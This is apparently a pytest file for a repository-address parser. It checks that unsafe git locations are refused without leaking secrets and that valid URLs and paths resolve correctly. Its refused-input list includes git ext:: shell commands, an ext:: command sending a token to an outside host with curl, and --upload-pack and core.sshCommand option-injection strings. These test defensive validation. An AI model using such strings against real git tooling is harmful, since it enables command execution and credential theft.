"""Test the addresses of repositories: accepted and refused."""

from __future__ import annotations

import pytest

from miners.errors import SourceDenied
from miners.git.address import parse_location

SECRET = "s3cr3t-t0k3n"


@pytest.mark.parametrize(
    "text",
    [
        "ext::sh -c 'touch pwned'",
        "fd::3",
        f"ext::sh -c 'curl -H token:{SECRET} host.example'",
        f"--upload-pack=env TOKEN={SECRET} git-upload-pack",
        f"-c http.extraHeader={SECRET}",
        "--upload-pack=touch pwned",
        "-c core.sshCommand=x",
        "ftp://host.example/app.git",
        "git://host.example/app.git",
        "http://host.example/team/app.git",
        f"https://user:{SECRET}@host.example/team/app.git",
        f"https://{SECRET}@host.example/team/app.git",
        f"https://host.example/team/app.git?private_token={SECRET}",
        f"ssh://user:{SECRET}@host.example/team/app.git",
        "https:///nothing",
        "https://host.example/",
        "transport::https://host.example/app.git",
        f"https://host.example/team/app.git;private_token={SECRET}",
        f"https://host.example/team/app.git#{SECRET}",
        f"user:{SECRET}@host.example/team/app.git",
        f"//user:{SECRET}@host.example/team/app.git",
        f"{SECRET}:x-oauth-basic@host.example/team/app.git",
        f"https:/user:{SECRET}@host.example/team/app.git",
        f"https:user:{SECRET}@host.example/team/app.git",
        f"https://user:{SECRET}@[::1/team/app.git",
        f"https://user:{SECRET}@[::1]:x/team/app.git",
        f"https://user:{SECRET}/team/app.git",
        "https://[x/y",
        "https://[x]/y",
        "file://host.example/srv/app.git",
        "a\0b",
        "loop",
        "~nouser/app",
        "x" * 5000,
        "",
        " ",
    ],
)
def test_addresses_that_are_refused_before_anything_is_called(text, tmp_path):
    (tmp_path / "loop").symlink_to("loop")

    with pytest.raises(SourceDenied) as caught:
        parse_location(text, tmp_path)

    assert SECRET not in str(caught.value)
    assert "\0" not in str(caught.value)
    assert caught.value.remedy
    assert caught.value.source.strip()


@pytest.mark.parametrize(
    ("text", "identity", "protocol"),
    [
        ("https://Host.Example/Team/app.git", "host.example/Team/app", "https"),
        ("https://host.example:8443/team/app/", "host.example:8443/team/app", "https"),
        ("ssh://git@host.example/team/app.git", "host.example/team/app", "ssh"),
        ("git@host.example:team/app.git", "host.example/team/app", "ssh"),
        ("http://localhost:8080/app", "localhost:8080/app", "http"),
    ],
)
def test_addresses_of_one_repository_have_one_identity(text, identity, protocol, tmp_path):
    assert parse_location(text, tmp_path) == (identity, text, protocol)


@pytest.mark.parametrize(
    ("text", "path"),
    [
        ("app", "base/app"),
        ("a:b@c", "base/a:b@c"),
        ("file:///srv/app", "/srv/app"),
        ("file://localhost/srv/app", "/srv/app"),
        ("~/app", "home/app"),
    ],
)
def test_paths_start_at_the_settings_or_at_the_home_folder(text, path, tmp_path, monkeypatch):
    monkeypatch.setenv("HOME", str(tmp_path / "home"))
    base = tmp_path / "base"
    (base / "a:b@c").mkdir(parents=True)

    assert parse_location(text, base) == (str(tmp_path / path), str(tmp_path / path), "file")
